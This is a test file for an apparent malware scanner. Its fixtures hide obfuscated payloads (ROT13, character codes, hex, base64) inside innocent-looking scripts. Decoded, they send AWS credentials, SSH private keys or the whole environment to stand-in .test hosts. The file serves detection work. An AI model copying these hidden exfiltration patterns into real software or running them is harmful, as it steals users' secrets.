// Obfuscated payloads written on one line and run on another: what the decoded code does is reported
// where it runs, and the literal that hides it is SC3 where it sits. Payloads here were written for
// this file (rot13, character codes, hex), not taken from any corpus.
import { describe, expect, it } from "vitest";
import { at, scan } from "./helpers";

const ROT13_PY = [
  "import codecs",
  "",
  "_T = \"vzcbeg heyyvo.erdhrfg, bf; heyyvo.erdhrfg.heybcra('uggcf://fgnfu.gvqrcbby-zrgevpf.grfg/va', qngn=bcra(bf.cngu.rkcnaqhfre('~/.njf/perqragvnyf'),'eo').ernq())\"",
  "",
  "def tidy(rows):",
  "    return [r.strip() for r in rows]",
  "",
  "def main():",
  '    exec(codecs.decode(_T, "rot13"))',
  "",
].join("\n");

const CODES_JS = [
  "const fs = require('fs');",
  "const _m = [102,101,116,99,104,40,39,104,116,116,112,115,58,47,47,100,114,111,112,46,113,117,97,114,114,121,45,97,110,97,108,121,116,105,99,115,46,116,101,115,116,47,117,39,44,123,109,101,116,104,111,100,58,39,80,79,83,84,39,44,98,111,100,121,58,74,83,79,78,46,115,116,114,105,110,103,105,102,121,40,112,114,111,99,101,115,115,46,101,110,118,41,125,41];",
  "",
  "function summary(rows) {",
  "  return rows.length + ' rows';",
  "}",
  "",
  "module.exports = async function run(rows) {",
  "  await eval(String.fromCharCode(..._m));",
  "  return summary(rows);",
  "};",
].join("\n");

const HEX_JS = [
  "const warm = '726571756972652827687474707327292e72657175657374287b686f73743a2773696e6b2e6665726e62616e6b2d63646e2e74657374272c6d6574686f643a27504f5354277d292e656e6428726571756972652827667327292e7265616446696c6553796e63287265717569726528276f7327292e686f6d6564697228292b272f2e7373682f69645f65643235353139272929';",
  "",
  "function layout(n) {",
  "  return Array.from({ length: n }, (_, i) => i * 2);",
  "}",
  "",
  "const code = Buffer.from(warm, 'hex').toString();",
  "new Function('require', code)(require);",
].join("\n");

describe("payload written on one line, run on another", () => {
  it("reads a rot13 string as code where the file undoes rot13", () => {
    const files = { "scripts/sync.py": ROT13_PY };
    expect(at(files, "PE3")).toEqual(expect.arrayContaining(["scripts/sync.py:3", "scripts/sync.py:9"]));
    expect(at(files, "E1")).toEqual(expect.arrayContaining(["scripts/sync.py:3", "scripts/sync.py:9"]));
    expect(at(files, "SC3")).toEqual(expect.arrayContaining(["scripts/sync.py:3", "scripts/sync.py:9"]));
  });

  it("reads character codes passed to eval as JavaScript (a fetch is JavaScript, not shell)", () => {
    const files = { "scripts/report.js": CODES_JS };
    // Sending the whole environment is one E2 where it happens (the scanner's rule: not also an E1).
    expect(at(files, "E2")).toEqual(expect.arrayContaining(["scripts/report.js:2", "scripts/report.js:9"]));
    expect(at(files, "SC3")).toEqual(expect.arrayContaining(["scripts/report.js:2", "scripts/report.js:9"]));
  });

  it("follows the decoded variable to the Function that runs it", () => {
    const files = { "scripts/cache.js": HEX_JS };
    expect(at(files, "PE3")).toEqual(expect.arrayContaining(["scripts/cache.js:1", "scripts/cache.js:8"]));
    expect(at(files, "SC3")).toContain("scripts/cache.js:1");
  });

  it("finds the variable of a literal wrapped onto the lines after its assignment", () => {
    const wrapped = [
      "import base64",
      "",
      "# colour table for the legend",
      "_PALETTE = (",
      '    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0LCBvczsgdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9yZWxheS5tb3NzLWxlZGdlci50ZXN0L2snLCBkYXRhPW9wZW4ob3MucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gvaWRfZWQyNTUxOScpLCdyYicpLnJlYWQoKSk="',
      ")",
      "",
      "def legend(n):",
      "    return [i * 10 for i in range(n)]",
      "",
      "def main():",
      "    exec(base64.b64decode(_PALETTE))",
    ].join("\n");
    const files = { "scripts/legend.py": wrapped };
    expect(at(files, "PE3")).toEqual(expect.arrayContaining(["scripts/legend.py:5", "scripts/legend.py:12"]));
    expect(at(files, "SC3")).toEqual(expect.arrayContaining(["scripts/legend.py:5", "scripts/legend.py:12"]));
  });

  it("reports nothing of the payload's robustness: a decoded fetch without a timeout is not R2", () => {
    expect(at({ "scripts/report.js": CODES_JS }, "R2")).toEqual([]);
  });

  it("stays quiet on rot13 used on data nobody runs, and on literals that are never executed", () => {
    const quiet = [
      "import codecs",
      '_HINT = "Gur nafjre vf sbegl-gjb, nf nyjnlf"',
      "def reveal():",
      '    return codecs.decode(_HINT, "rot13")',
    ].join("\n");
    const found = scan({ "scripts/puzzle.py": quiet }).findings;
    expect(found.filter((f) => /^(SC3|E1|PE3|E2)$/.test(f.pattern))).toEqual([]);
  });
});
